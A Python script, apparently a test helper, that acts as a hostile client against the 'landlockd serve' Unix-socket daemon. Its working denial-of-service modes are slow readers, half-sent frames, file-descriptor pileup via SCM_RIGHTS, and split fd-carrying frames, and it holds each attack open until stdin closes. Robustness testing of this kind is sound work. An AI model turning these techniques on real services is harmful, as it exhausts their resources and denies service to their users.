#!/usr/bin/env python3
"""Availability attacks on `landlockd serve`, written as a hostile client.

usage: daemonavail_flood.py SOCKET MODE [COUNT]

  slow-readers  COUNT connections (default 100) each send status requests
                and never read a reply.
  half-frames   COUNT connections (default 1030) each send half a frame and
                then nothing.
  fd-pileup     one connection sends COUNT status frames (default 2490),
                each with 8 fds attached (SCM_RIGHTS), and reads the replies.
  fd-closed     sends a pipe's write end with a status frame; prints
                "closed" if the daemon closed it, "kept" if not (2 s).
  fd-split      sends half a run frame with 8 fds, then the rest with 8
                more; prints the daemon's reply.

It prints "ready N" (N: connections the daemon let it keep, or frames sent)
once the attack is in place, then holds it until stdin closes. Exit 0.
"""

import json
import os
import resource
import socket
import struct
import sys


def frame(header):
    data = json.dumps({"v": 1, **header}).encode()
    return struct.pack("<II", len(data), 0) + data


def connect(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    return s


def raise_nofile():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def slow_readers(path, count):
    held = []
    request = frame({"type": "status", "id": 1})
    for _ in range(count):
        s = connect(path)
        s.setblocking(False)
        # Far more than fits in both socket buffers: the daemon's replies
        # back up until its sends would block.
        sent = 0
        for _ in range(4000):
            try:
                s.send(request)
                sent += 1
            except BlockingIOError:
                break
            except OSError:
                break
        held.append(s)
    return held, len(held)


def half_frames(path, count):
    raise_nofile()
    held = []
    half = frame({"type": "status", "id": 1})
    half = half[: len(half) // 2]
    for _ in range(count):
        try:
            s = connect(path)
        except OSError:
            break
        try:
            s.send(half)
        except OSError:
            s.close()
            continue
        held.append(s)
    # Keep only connections the daemon did not refuse at once: a refused
    # one has an error frame waiting, or is at end of file.
    import time
    time.sleep(1)  # let the daemon accept (or refuse) them all
    kept = []
    for s in held:
        s.setblocking(False)
        try:
            data = s.recv(4096)
        except BlockingIOError:
            kept.append(s)
            continue
        except OSError:
            data = b""
        s.close()
    return kept, len(kept)


def fd_pileup(path, count):
    s = connect(path)
    fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(8)]
    request = frame({"type": "status", "id": 1})
    sent = 0
    pending = b""
    for i in range(count):
        try:
            socket.send_fds(s, [request], fds)
        except OSError:
            break
        sent += 1
        # Read the reply, so that only the fds pile up, not the replies.
        try:
            while True:
                pending += s.recv(65536)
                if len(pending) < 8:
                    continue
                h, b = struct.unpack("<II", pending[:8])
                if len(pending) >= 8 + h + b:
                    pending = pending[8 + h + b:]
                    break
        except OSError:
            break
    return [s], sent


def fd_closed(path, _count):
    import select
    s = connect(path)
    r, w = os.pipe()
    socket.send_fds(s, [frame({"type": "status", "id": 1})], [w])
    os.close(w)
    s.recv(65536)
    ready, _, _ = select.select([r], [], [], 2)
    print("closed" if ready and os.read(r, 1) == b"" else "kept", flush=True)
    return [s], 1


def fd_split(path, _count):
    s = connect(path)
    fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(8)]
    run = frame({"type": "run", "id": 1, "policy": {"name": "p", "text": ""},
                 "argv": ["true"], "env": {}, "cwd": "/", "stdio": "fds"})
    socket.send_fds(s, [run[:20]], fds)
    socket.send_fds(s, [run[20:]], fds)
    s.settimeout(5)
    data = b""
    while len(data) < 8 or len(data) < 8 + struct.unpack("<I", data[:4])[0]:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    print(data[8:].decode(errors="replace"), flush=True)
    return [s], 1


def main():
    path, mode = sys.argv[1], sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else None
    attack = {
        "slow-readers": (slow_readers, 100),
        "half-frames": (half_frames, 1030),
        "fd-pileup": (fd_pileup, 2490),
        "fd-closed": (fd_closed, 1),
        "fd-split": (fd_split, 1),
    }[mode]
    held, n = attack[0](path, count or attack[1])
    print(f"ready {n}", flush=True)
    sys.stdin.read()
    for s in held:
        s.close()


main()
